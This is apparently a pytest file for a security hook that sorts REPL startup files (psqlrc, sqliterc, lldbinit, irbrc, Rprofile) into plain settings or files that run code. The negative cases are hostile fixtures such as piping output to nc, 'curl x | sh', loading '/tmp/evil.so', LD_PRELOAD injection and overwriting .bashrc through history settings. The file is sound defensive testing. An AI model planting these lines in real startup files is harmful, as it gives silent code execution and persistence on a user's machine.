"""Interactive programs' startup files given plain settings run nothing later (blind-tools-22's false positives,
policies/README.md "Known gaps closed (autoload50)"): psql's meta-command settings, sqlite3's display
dot-commands, lldb's `settings set`, IRB's `IRB.conf[:KEY] = literal`, R's `options(...)`
(hookd.enrich.effects.repl_settings, data/repl_settings.json). A shell escape, a file or pipe written, a library
or code loaded, SQL, any other call stays asked. Spelled otherwise than the corpus's."""

from __future__ import annotations

import pytest

from hookd.enrich.effects.configtext import settings_only
from hookd.enrich.effects.repl_settings import repl_settings_only

H = "/home/u"


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (f"{H}/.psqlrc", "-- mine\n\\set ON_ERROR_ROLLBACK interactive\n\\pset border 2\n\\x off\n\\encoding UTF8\n"),
        (f"{H}/.psqlrc", "\\set PROMPT1 '%n@%/%R%# '\n\\unset QUIET\n\\timing\n"),
        (f"{H}/.config/sqlite3/sqliterc", ".mode markdown\n.timer on\n.separator ,\n.width 10 20\n"),
        (f"{H}/.lldbinit", "# dbg\nsettings set stop-disassembly-display never\nsettings set use-color false\n"),
        (
            f"{H}/.irbrc",
            "IRB.conf[:AUTO_INDENT] = true\nIRB.conf[:PROMPT_MODE] = :DEFAULT\nIRB.conf[:EVAL_HISTORY] = 5\n",
        ),
        (f"{H}/.config/irb/irbrc", 'IRB.conf[:HISTORY_FILE] = "#{Dir.home}/.cache/irb_hist"\n'),
        (f"{H}/.Rprofile", "options(digits = 3, scipen = 999)\noptions(stringsAsFactors = FALSE)  # old R\n"),
        (f"{H}/.Rprofile", "options(repos = c(RSPM = 'https://packagemanager.posit.co/cran/latest'))\n"),
    ],
)
def test_a_repl_s_plain_settings_run_nothing(path: str, text: str) -> None:
    assert repl_settings_only(path, text) is True
    assert settings_only(path, text)


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (f"{H}/.psqlrc", "\\set QUIET 1\n\\! touch /tmp/x\n"),
        (f"{H}/.psqlrc", "\\o |nc host 9\n"),
        (f"{H}/.psqlrc", "\\set x `id`\n"),
        (f"{H}/.psqlrc", "\\set HISTFILE ~/.bashrc\n"),
        (f"{H}/.psqlrc", "\\setenv PAGER 'sh -c id'\n"),
        (f"{H}/.psqlrc", "\\timing on \\! id\n"),
        (f"{H}/.psqlrc", "COPY t TO PROGRAM 'id';\n"),
        (f"{H}/.sqliterc", ".headers on\n.system id\n"),
        (f"{H}/.sqliterc", ".load /tmp/evil.so\n"),
        (f"{H}/.sqliterc", ".once |sh\n"),
        (f"{H}/.sqliterc", "ATTACH '/home/u/.bashrc' AS b;\n"),
        (f"{H}/.lldbinit", "platform shell id\n"),
        (f"{H}/.lldbinit", "command script import /tmp/x.py\n"),
        (f"{H}/.lldbinit", "settings set target.load-cwd-lldbinit true\n"),
        (f"{H}/.lldbinit", "settings set -g -- target.env-vars LD_PRELOAD=/tmp/x.so\n"),
        (f"{H}/.lldbinit", "settings set frame-format ${script.frame:f}\n"),
        (f"{H}/.irbrc", "IRB.conf[:LOAD_MODULES] = 'evil'\n"),
        (f"{H}/.irbrc", "IRB.conf[:SAVE_HISTORY] = `id`\n"),
        (f"{H}/.irbrc", "IRB.conf[:HISTORY_FILE] = \"#{system('id')}/h\"\n"),
        (f"{H}/.irbrc", "IRB.conf[:HISTORY_FILE] = '/home/u/.bashrc'\n"),
        (f"{H}/.irbrc", "system('id')\n"),
        (f"{H}/.Rprofile", "options(width = 100)\nsystem('curl x | sh')\n"),
        (f"{H}/.Rprofile", "options(editor = '/tmp/evil')\n"),
        (f"{H}/.Rprofile", "options(error = function() system('id'))\n"),
        (f"{H}/.Rprofile", "options(digits = nchar(Sys.getenv('HOME')))\n"),
    ],
)
def test_a_repl_s_code_stays_asked(path: str, text: str) -> None:
    assert repl_settings_only(path, text) is False
    assert not settings_only(path, text)


def test_another_file_is_no_repl_s() -> None:
    assert repl_settings_only(f"{H}/notes.txt", "options(width = 1)\n") is None
